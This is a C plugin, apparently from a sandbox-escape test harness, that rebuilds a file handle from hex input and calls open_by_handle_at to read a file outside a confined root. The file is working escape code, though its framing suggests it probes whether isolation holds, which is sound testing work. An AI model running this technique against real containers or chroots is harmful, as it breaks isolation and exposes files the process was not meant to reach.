/* Opens a file by its number on the disk, from any folder of the same file system: a private root is no obstacle. */
#include "hostile.h"

static void hostile_attack(void) {
  static char data[256];
  struct {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } handle;
  const char *digits = hostile_text("handle");
  size_t size = strlen(digits) / 2;
  if (size > MAX_HANDLE_SZ)
    size = MAX_HANDLE_SZ;
  for (size_t i = 0; i < size; i++) {
    const char pair[3] = {digits[2 * i], digits[2 * i + 1], '\0'};
    handle.head.f_handle[i] = (unsigned char)strtoul(pair, NULL, 16);
  }
  handle.head.handle_bytes = (unsigned)size;
  handle.head.handle_type = (int)hostile_number("type");
  int folder = (int)syscall(SYS_openat, AT_FDCWD, hostile_text("folder"), O_RDONLY, 0);
  if (folder < 0) {
    hostile_failed("openat");
    return;
  }
  int fd = open_by_handle_at(folder, &handle.head, O_RDONLY);
  ssize_t got = fd < 0 ? -1 : read(fd, data, sizeof data);
  if (got <= 0)
    hostile_failed(fd < 0 ? "open_by_handle_at" : "read");
  else
    hostile_succeeded(data, (size_t)got);
}

HOSTILE_PLUGIN
